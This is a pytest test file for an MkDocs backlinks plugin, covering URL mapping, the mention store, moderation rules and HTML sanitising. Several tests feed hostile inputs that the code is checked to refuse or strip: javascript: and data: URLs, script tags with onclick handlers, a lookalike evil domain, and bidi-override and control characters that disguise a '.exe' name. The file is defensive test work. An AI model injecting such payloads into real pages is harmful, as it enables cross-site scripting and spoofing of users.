        ("http://www.old.example.net/p/posts/hello", "posts/hello/"),
        ("https://old.example.net/posts/hello/", None),  # outside the alias' path
        ("https://example.org/blog-old/posts/hello/", None),
        ("https://example.org/posts/hello/", None),
        ("https://example.org.evil.example/blog/posts/hello/", None),
        ("https://sub.example.org/blog/posts/hello/", None),
        ("https://example.org:8443/blog/posts/hello/", None),
        ("ftp://example.org/blog/posts/hello/", None),
        ("javascript:alert(1)", None),
        ("/blog/posts/hello/", None),
        ("https://example.org:bad/blog/", None),
    ],
)
def test_page_key(url: str, key: str | None) -> None:
    assert page_key(url, SITE, ["https://old.example.net/p/"]) == key


def test_page_key_alias_with_longest_prefix_wins() -> None:
    site = "https://example.org/"
    aliases = ["https://example.org/old-blog/", "old.example.com"]
    assert page_key("https://example.org/old-blog/a/", site, aliases) == "a/"
    assert page_key("https://example.org/old-blogger/", site, aliases) == "old-blogger/"
    assert page_key("https://old.example.com/a/", site, aliases) == "a/"
    assert page_key("https://example.org/a/", "", aliases) is None


def test_group_by_page() -> None:
    items = [
        mention("1", target="https://example.org/blog/posts/hello"),
        mention("2", target="http://www.example.org/blog/posts/hello/index.html"),
        mention("3", target="https://elsewhere.example/"),
        mention("4", target="https://example.org/blog/"),
        mention("5", target=POST, source="https://spam.example/x"),
    ]
    pages = group_by_page(items, SITE, (), Moderation(blocked_domains=frozenset({"spam.example"})))
    assert {key: [m.id for m in ms] for key, ms in pages.items()} == {
        "": ["4"],
        "posts/hello/": ["1", "2"],
    }


# ----------------------------------------------------------------------------- store


def sample_store() -> MentionsStore:
    mentions = parse_feed(JF2_FEED)[0] + parse_feed(LINKS_FEED)[0]
    mentions += parse_feed({"type": "feed", "children": [HOSTILE_ENTRY]})[0]
    return update_store(MentionsStore(), "webmention.io", mentions, "2024-05-01T10:00:00Z")


def test_store_round_trip_and_byte_stability(tmp_path: Path) -> None:
    path = tmp_path / "data" / "mentions.json"
    store = sample_store()
    save_store(path, store)
    first = path.read_bytes()
    loaded = load_store(path)
    assert loaded == store
    save_store(path, loaded)
    assert path.read_bytes() == first
    assert dumps_store(store) == dumps_store(loaded)
    assert [p.name for p in path.parent.iterdir()] == ["mentions.json"]  # no temp file left

    lines = first.decode().splitlines()
    head = json.loads(lines[0].rstrip(",") + "}")
    assert head["schema"] == STORE_SCHEMA and head["version"] == 1
    assert head["sources"] == {
        "webmention.io": {"since_id": "532403", "last_fetched": "2024-05-01T10:00:00Z"}
    }
    assert lines[1] == '"mentions":{' and lines[-2:] == ["}", "}"]
    records = lines[2:-2]
    assert len(records) == len(store.mentions)  # one mention a line
    for line in records:
        value = line.partition(":")[2]
        keys = list(json.loads(value.rstrip(",")))
        assert keys == sorted(keys)
    assert json.loads(first)["mentions"]["900"]["author_name"] == "Tantek Çelik"


def test_store_written_in_any_order_is_the_same_file(tmp_path: Path) -> None:
    store = sample_store()
    backwards = replace(store, mentions=tuple(reversed(store.mentions)))
    assert dumps_store(backwards) == dumps_store(store)


def test_missing_store_is_empty(tmp_path: Path) -> None:
    assert load_store(tmp_path / "nothing.json") == MentionsStore()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"{not json", "not valid JSON"),
        (b"\xff\xfe{}", "not UTF-8"),
        (b"[]", "must be an object"),
        (b'{"schema": "something-else", "version": 1}', "expected 'mkdocs-backlinks/mentions'"),
        (b'{"schema": "mkdocs-backlinks/mentions", "version": 2}', "newer version"),
        (b'{"schema": "mkdocs-backlinks/mentions", "version": "1"}', "whole number"),
        (b'{"schema": "mkdocs-backlinks/mentions", "version": 1, "mentions": []}', "object"),
        (
            b'{"schema": "mkdocs-backlinks/mentions", "version": 1, "mentions": '
            b'{"1": {"kind": "hug", "source": "https://a/", "target": "https://b/"}}}',
            "unknown kind",
        ),
        (
            b'{"schema": "mkdocs-backlinks/mentions", "version": 1, "mentions": '
            b'{"1": {"kind": "like", "source": "javascript:x", "target": "https://b/"}}}',
            "not an http(s) URL",
        ),
        (
            b'{"schema": "mkdocs-backlinks/mentions", "version": 1, "mentions": '
            b'{"1": {"kind": "like", "target": "https://b/"}}}',
            "'source' is missing",
        ),
        (
            b'{"schema": "mkdocs-backlinks/mentions", "version": 1, "mentions": '
            b'{"1": {"kind": "like", "source": "https://a/", "target": "https://b/", '
            b'"title": 5}}}',
            "title of mention '1' must be a string",
        ),
    ],
)
def test_damaged_store_raises_and_is_left_untouched(
    tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "mentions.json"
    path.write_bytes(content)
    with pytest.raises(MentionsError) as caught:
        load_store(path)
    assert str(path) in str(caught.value)
    assert message in str(caught.value)
    assert "left untouched" in str(caught.value)
    assert path.read_bytes() == content


def test_hand_edited_store_is_cleaned_on_load(tmp_path: Path) -> None:
    path = tmp_path / "mentions.json"
    record = {
        "kind": "reply",
        "source": "https://a.example/",
        "target": POST,
        "url": "javascript:alert(1)",
        "author_url": "data:text/html,x",
        "content_html": "<script>alert(1)</script><p onclick=x>hi</p>",
        "rsvp": "bogus",
    }
    document = {"schema": STORE_SCHEMA, "version": 1, "mentions": {"1": record}}
    path.write_text(json.dumps(document), encoding="utf-8")
    [m] = load_store(path).mentions
    assert (m.url, m.author_url, m.rsvp) == ("https://a.example/", None, "")
    assert m.content_html == "<p>hi</p>"


# ----------------------------------------------------------------------------- moderation


def test_moderation_hides_by_id_url_domain_and_author() -> None:
    moderation = Moderation(
        hidden=frozenset({"42", "https://hidden.example/post/"}),
        blocked_domains=frozenset({"spam.example", "https://www.Junk.example/whatever"}),
        blocked_authors=frozenset({"https://troll.example"}),
    )
    assert moderation.is_hidden(mention("42"))
    assert moderation.is_hidden(mention("1", source="http://www.hidden.example/post"))
    assert moderation.is_hidden(mention("2", url="https://hidden.example/post#c"))
    assert moderation.is_hidden(mention("3", source="https://spam.example/x"))
    assert moderation.is_hidden(mention("4", source="https://deep.sub.spam.example/x"))
    assert moderation.is_hidden(mention("5", url="https://junk.example/y"))
    assert moderation.is_hidden(mention("6", author_url="http://www.troll.example/"))
    assert not moderation.is_hidden(mention("7", source="https://notspam.example/x"))
    assert not moderation.is_hidden(mention("8", source="https://spam.example.org/x"))
    assert not moderation.is_hidden(mention("9", author_url="https://troll.example/other"))
    assert not moderation.is_hidden(mention("420"))
    assert not Moderation().is_hidden(mention("42"))


def test_hidden_mention_stays_hidden_when_sent_again() -> None:
    [original], _ = parse_feed(JF2_FEED["children"][0])
    moderation = hide(Moderation(), original.url)
    stored = merge([], [original])
    # The receiver sends it again: edited, under the http/https twin of its URL, and even
    # with a fresh id.
    again = {
        **JF2_FEED["children"][0],
        "wm-id": 5000,
        "wm-source": "https://tantek.com/2013/112/t2/milestone/",
        "url": "https://tantek.com/2013/112/t2/milestone/",
        "content": {"text": "edited text"},
    }
    merged = merge(stored, parse_feed(again)[0])
    assert [m.id for m in merged] == ["5000"]
    assert merged[0].content_text == "edited text"
    assert moderation.is_hidden(merged[0])
    assert group_by_page(merged, SITE, (), moderation) == {}

    by_id = hide(Moderation(), "900")
    resent = merge(stored, [replace(original, content_text="edited again")])
    assert by_id.is_hidden(resent[0])


def test_moderation_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "moderation.json"
    assert load_moderation(path) == Moderation()
    moderation = Moderation(
        hidden=frozenset({"42", "https://www.Hidden.example/post/"}),
        blocked_domains=frozenset({"Spam.example."}),
        blocked_authors=frozenset({"http://troll.example"}),
    )
    save_moderation(path, moderation)
    text = path.read_text(encoding="utf-8")
    assert json.loads(text) == {
        "schema": "mkdocs-backlinks/moderation",
        "version": 1,
        "hidden": ["42", "hidden.example/post"],
        "blocked_domains": ["spam.example"],
        "blocked_authors": ["troll.example"],
    }
    loaded = load_moderation(path)
    assert loaded == moderation
    assert dumps_moderation(loaded) == text


@pytest.mark.parametrize(
    "content",
    [
        b"{",
        b"\xc3\x28",
        b'{"schema": "mkdocs-backlinks/moderation", "version": 9}',
        b'{"schema": "mkdocs-backlinks/moderation", "version": 1, "hidden": "42"}',
        b'{"schema": "mkdocs-backlinks/moderation", "version": 1, "hidden": [42]}',
    ],
)
def test_damaged_moderation_raises_and_is_left_untouched(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "moderation.json"
    path.write_bytes(content)
    with pytest.raises(MentionsError, match="moderation file") as caught:
        load_moderation(path)
    assert str(path) in str(caught.value)
    assert path.read_bytes() == content


def test_controls_and_direction_overrides_never_reach_a_page() -> None:
    """A reply's HTML may name control characters by reference (`&#x2;`), which the sanitiser
    writes back as the characters: Markdown's placeholders, C1 controls and the overrides
    that show a name or URL reversed are removed after it, and refused in URLs."""
    good = JF2_FEED["children"][0]
    hostile = {
        **good,
        "url": "https://s.example/p\u0085q",
        "author": {"name": "A", "url": "https://a.example/\u009f\u202egnp.exe"},
        "content": {
            "html": "<p>x \u0002wzxhzdk:0\u0003 &#x2;wzxhzdk:1&#x3; \u202eevil\u0001 "
            '<a href="https://ok.example/" title="t\u202e\u0007">ok</a></p>'
        },
    }
    [m], _ = parse_feed({"children": [hostile]})
    assert m.author_url is None
    assert m.url == good["wm-source"]  # the shown URL refused, its source instead
    # a source URL like it makes no mention at all, as any other unsafe source
    assert parse_feed({"children": [{**good, "wm-source": "https://s.example/p\u0085q"}]})[0] == []
    for value in (m.content_html, m.url, m.author_name):
        for char in ("\u0002", "\u0003", "\u0001", "\u0007", "\u0085", "\u009f", "\u202e"):
            assert char not in value, (char, value)
    assert "evil" in m.content_html and 'href="https://ok.example/"' in m.content_html
    # (`&#x85;` is the ellipsis to a browser, as to the sanitiser: Windows-1252's, by the spec)
    assert sanitize_html("<p>a&#x202E;b&#x1;c&#x85;</p>") == "<p>abc\u2026</p>"
